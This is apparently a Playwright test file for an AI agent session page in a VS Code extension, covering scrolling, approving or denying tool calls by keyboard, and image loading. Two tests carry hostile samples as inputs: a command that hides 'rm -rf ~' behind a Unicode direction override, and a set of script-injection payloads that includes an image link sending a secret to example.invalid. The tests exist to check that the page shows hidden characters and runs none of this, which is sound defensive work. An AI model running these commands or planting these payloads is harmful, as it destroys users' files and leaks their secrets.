/** The page of a session as a person meets it: length, following, gaps, approvals by keyboard, and text that means harm. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import type { FromPage, PageImage } from "../../src/core/pageProtocol.ts";
import { root } from "../../scripts/pinnedNode.mjs";
import type { EventId } from "../../src/core/ids.ts";
import { findChromium } from "../../scripts/chromium.mjs";
import { openBrowser } from "../vscode/host/browser.ts";
import { skipUnless } from "../vscode/host/skip.ts";
import { openPage } from "./pageHost.ts";
import type { PageHost } from "./pageHost.ts";
import { asks, created, numbering, runs, turn } from "./samples.ts";

const ICON = path.join(root, "media", "icon.png");

type Emitted = Extract<FromPage, { type: "emit" }>["event"];

function emitted(host: PageHost): readonly Emitted[] {
  return host.sent.flatMap((message) => (message.type === "emit" ? [message.event] : []));
}

function fromEnd(page: Page): Promise<number> {
  return page
    .locator(".scroller")
    .evaluate((scroller) => scroller.scrollHeight - scroller.clientHeight - scroller.scrollTop);
}

async function until(page: Page, holds: () => boolean | Promise<boolean>): Promise<void> {
  for (const deadline = Date.now() + 30_000; !(await holds()); await page.waitForTimeout(20)) {
    if (Date.now() > deadline) throw new Error("it never came to be");
  }
}

describe("the page of a session", function () {
  this.timeout(60_000);
  let browser: Browser;
  let host: PageHost | null = null;

  before(async function () {
    skipUnless(this, findChromium() !== undefined, "there is no Chromium: apt-get install chromium");
    browser = await openBrowser();
  });
  afterEach(async () => {
    await host?.close();
    host = null;
  });
  after(() => browser?.close());

  /** A history of so many turns, and what numbers the events after it. */
  async function open(turns: number, lines = 4): Promise<{ host: PageHost; next: ReturnType<typeof numbering> }> {
    const next = numbering();
    const text = (at: number): string =>
      Array.from({ length: lines }, (_, line) => `answer ${at}, line ${line}`).join("\n\n");
    const history = next(created, ...Array.from({ length: turns }, (_, at) => turn(`question ${at}`, text(at))).flat());
    host = await openPage(browser, { history });
    return { host, next };
  }

  it("shows the end of a history of 20,000 events, and holds no more than a stretch of it", async () => {
    const { host: opened } = await open(3_333);
    const { page, sent } = opened;
    await page.getByText("answer 3332, line 3").waitFor();
    await until(page, async () => (await fromEnd(page)) < 2);
    // As when a theme or a font comes late: all rows change their height at once.
    await page.evaluate(() => document.body.style.setProperty("--vscode-font-size", "20px"));
    await until(page, async () => (await fromEnd(page)) < 2);
    const asked = sent.flatMap((message) => (message.type === "slice" ? [message] : []));
    assert.ok(asked.length <= 3, `${asked.length} slices were asked for`);
    assert.ok(asked.every(({ limit }) => limit <= 200));
    assert.ok((await page.locator(".row").count()) < 400);
  });

  it("asks for what is older as the person scrolls up, down to the beginning, without a row twice", async () => {
    const { host: opened } = await open(120);
    const { page } = opened;
    await page.getByText("answer 119, line 3").waitFor();
    await page.mouse.move(400, 300);
    await until(page, async () => {
      await page.mouse.wheel(0, -3_000);
      return page.getByText("question 0", { exact: true }).isVisible();
    });
    const said = await page.locator(".row.user .said").allTextContents();
    assert.deepEqual(
      said,
      Array.from(said, (_, at) => `question ${at}`),
    );
  });

  it("follows what is new as long as the person reads the end, and not once they have scrolled up", async () => {
    const { host: opened, next } = await open(20);
    const { page } = opened;
    await page.getByText("answer 19, line 3").waitFor();
    await opened.append(next(...turn("more", "new\n\n".repeat(60))));
    await until(page, async () => (await page.getByText("new", { exact: true }).count()) === 60);
    await until(page, async () => (await fromEnd(page)) < 2);
    // Smaller and larger again, as a banner or another window makes it.
    await page.setViewportSize({ width: 800, height: 400 });
    await page.setViewportSize({ width: 500, height: 700 });
    await until(page, async () => (await fromEnd(page)) < 2);
    await page.mouse.move(250, 300);
    await page.mouse.wheel(0, -800);
    await until(page, async () => (await fromEnd(page)) > 300);
    const before = await page.locator(".scroller").evaluate((scroller) => scroller.scrollTop);
    await opened.append(next(...turn("even more", "newer\n\n".repeat(60))));
    await until(page, async () => (await page.getByText("newer", { exact: true }).count()) === 60);
    assert.ok(Math.abs((await page.locator(".scroller").evaluate((scroller) => scroller.scrollTop)) - before) < 5);
  });

  it("stays at the end while a command at the end prints", async () => {
    const { host: opened, next } = await open(20);
    const { page } = opened;
    await page.getByText("answer 19, line 3").waitFor();
    const events = next(...runs("make"));
    await opened.append(events);
    const tool_use_id = events.find(({ type }) => type === "agent.tool_use")?.id as never;
    for (let line = 1; line <= 40; line += 1) {
      const text = `made part ${line}\n`;
      await opened.post({ type: "stream", event: { type: "call_output", tool_use_id, offset: 0, text } });
      await page.getByText(`made part ${line}\n`).waitFor();
      await until(page, async () => (await fromEnd(page)) < 2);
    }
  });

  it("asks for what it missed", async () => {
    const { host: opened, next } = await open(3);
    const { page } = opened;
    await page.getByText("answer 2, line 3").waitFor();
    opened.appendUnheard(next(...turn("unheard", "This was not told.")));
    await opened.append(next(...turn("heard", "This was told.")));
    await page.getByText("This was not told.").waitFor();
    assert.equal(await page.getByText("This was told.").count(), 1);
  });

  it("asks for all that it missed where that is more than one slice, and stays at the end", async () => {
    for (const missed of [40, 400]) {
      const { host: opened, next } = await open(3);
      const { page } = opened;
      await page.getByText("answer 2, line 3").waitFor();
      opened.appendUnheard(next(...Array.from({ length: missed }, (_, at) => turn(`missed ${at}`, "…")).flat()));
      await opened.append(next(...turn("heard", "This was told.")));
      await page.getByText("This was told.").waitFor();
      await until(page, async () => (await fromEnd(page)) < 2);
      const said = (await page.locator(".row.user .said").allTextContents()).slice(-12, -1);
      assert.deepEqual(
        said,
        said.map((_, at) => `missed ${missed - said.length + at}`),
      );
      await opened.close();
    }
  });

  it("goes to the start and back to the end, and each shows what is there", async () => {
    const { host: opened } = await open(500);
    const { page } = opened;
    await page.getByText("answer 499, line 3").waitFor();
    await page.mouse.move(400, 300);
    await page.mouse.wheel(0, -1_000);
    await page.getByRole("button", { name: "↑ Start" }).click();
    await page.getByText("answer 0, line 3").waitFor();
    assert.equal(await page.locator(".row.user .said").first().textContent(), "question 0");
    await page.getByRole("button", { name: "↓ Latest" }).click();
    await page.getByText("answer 499, line 3").waitFor();
    await until(page, async () => (await fromEnd(page)) < 2);
  });

  it("lets a call be allowed by the keyboard alone", async () => {
    const { host: opened, next } = await open(1);
    const { page } = opened;
    await opened.append(next(...asks("make install")));
    const allow = page.getByRole("button", { name: "Allow", exact: true });
    await allow.waitFor();
    await allow.focus();
    await page.keyboard.press("Enter");
    await until(page, () => emitted(opened).length === 1);
    const [event] = emitted(opened);
    assert.equal(event?.type === "user.tool_confirmation" && event.result, "allow");
  });

  it("sends the reason with which a call is denied", async () => {
    const { host: opened, next } = await open(1);
    const { page } = opened;
    await opened.append(next(...asks("make install")));
    await page.getByRole("button", { name: "Deny…" }).press("Enter");
    await page.getByLabel("Why this call is denied").pressSequentially("Use the container.");
    await page.keyboard.press("Enter");
    await until(page, () => emitted(opened).length === 1);
    const [event] = emitted(opened);
    assert.ok(event?.type === "user.tool_confirmation");
    assert.deepEqual([event.result, event.deny_message], ["deny", "Use the container."]);
  });

  it("shows the images of a result, and asks for those of which the log has only a preview", async () => {
    const next = numbering();
    const images = [{ media_type: "image/png", data: readFileSync(ICON).toString("base64") }];
    const cut = images.map(
      (source) => ({ type: "image", source: { type: "base64", ...source, data: "iVBO" } }) as const,
    );
    const history = next(created, ...turn("Look.", "I look."), ...asks("shoot"));
    host = await openPage(browser, { history, images: () => images });
    const uses = history.findLast(({ type }) => type === "agent.tool_use");
    const outcome = { kind: "exited", code: 0 } as const;
    const [result] = next({
      type: "agent.tool_result",
      tool_use_id: uses?.id as EventId,
      content: cut,
      is_error: false,
      outcome,
    });
    assert.ok(result !== undefined);
    await host.append([{ ...result, payload_ref: { sha256: "0".repeat(64), bytes: 1 } }]);
    await host.page.locator(".call summary").last().click();
    const image = host.page.locator("img.image");
    await image.waitFor();
    await until(host.page, () => image.evaluate((element) => (element as HTMLImageElement).naturalWidth > 0));
    assert.deepEqual(
      host.sent.filter(({ type }) => type === "images"),
      [{ type: "images", seq: result.seq }],
    );
  });

  it("asks for the images that are in view, once, however many there are, and says of which it has none", async () => {
    const next = numbering();
    const source = { type: "base64", media_type: "image/png", data: "iVBO" } as const;
    const message = { type: "user.message", content: [{ type: "image", source }] } as const;
    const history = next(created, ...Array.from({ length: 60 }, () => message));
    for (const event of history.slice(1)) Object.assign(event, { payload_ref: { sha256: "0".repeat(64), bytes: 1 } });
    const image = { media_type: "image/png", data: readFileSync(ICON).toString("base64") };
    const imagesOf = (seq: number): readonly PageImage[] => (seq === history.length ? [] : [image]);
    host = await openPage(browser, { history, images: imagesOf });
    const { page, sent } = host;
    await page.locator("img.image").last().waitFor();
    await page.getByText("An image that cannot be shown").waitFor();
    await page.waitForTimeout(500);
    const asked = sent.flatMap((message) => (message.type === "images" ? [message.seq] : []));
    assert.ok(asked.length < 30 && asked.includes(history.length), String(asked));
    assert.deepEqual(asked, [...new Set(asked)]);
    await page.waitForTimeout(500);
    assert.equal(sent.filter(({ type }) => type === "images").length, asked.length);
    assert.ok((await page.locator("img.image").count()) < 30);
    await page.locator(".scroller").hover();
    await page.mouse.wheel(0, -100_000);
    await page.locator(".row.user").first().locator("img.image").waitFor();
  });

  it("shows what is hidden in a command that it asks about", async () => {
    const { host: opened, next } = await open(1);
    await opened.append(next(...asks("echo safe \u202e; rm -rf ~")));
    await opened.page.getByLabel("Input").getByText("echo safe ⟨U+202E⟩; rm -rf ~").waitFor();
  });

  it("runs nothing that the model wrote, and opens no address of its own accord", async () => {
    const { host: opened, next } = await open(1);
    const { page } = opened;
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    const harm = [
      "<img src=x onerror=\"document.title='harmed'\">",
      "<script>document.title='harmed'</script>",
      "[click](javascript:document.title='harmed')",
      "![see](https://example.invalid/leak?secret)",
      "<iframe src='https://example.invalid/'></iframe>",
      "<style>body{display:none}</style><a href='command:manyHands.deleteSession'>go</a>",
    ].join("\n\n");
    await opened.append(next(...turn("Be nice.", `${harm}\n\nThe end of it.`)));
    await page.getByText("The end of it.").waitFor();
    for (const link of await page.locator(".row.agent a").all()) await link.click({ force: true });
    assert.equal(await page.title(), "Many Hands session");
    assert.deepEqual(requests, []);
    assert.equal(await page.locator("#app iframe, #app script, #app style").count(), 0);
    const hrefs = opened.sent.flatMap((message) => (message.type === "open_link" ? [message.href] : []));
    assert.ok(
      hrefs.every((href) => href.startsWith("https:")),
      hrefs.join(" "),
    );
  });

  it("says who runs the session where another window does, and takes no message", async () => {
    const next = numbering();
    const holder = { epoch: 2, owner: "VS Code on desk, process 7" };
    const history = next(created, ...turn("Hello", "Hello."));
    host = await openPage(browser, { history, changes: { writer: { kind: "other", holder } } });
    await host.page.getByText(/Another window runs this session \(VS Code on desk, process 7\)/).waitFor();
    assert.equal(await host.page.locator(".composer textarea").isDisabled(), true);
    await host.page.getByRole("button", { name: "Take over" }).click();
    await until(host.page, () => host?.sent.some(({ type }) => type === "take_over") === true);
  });
});
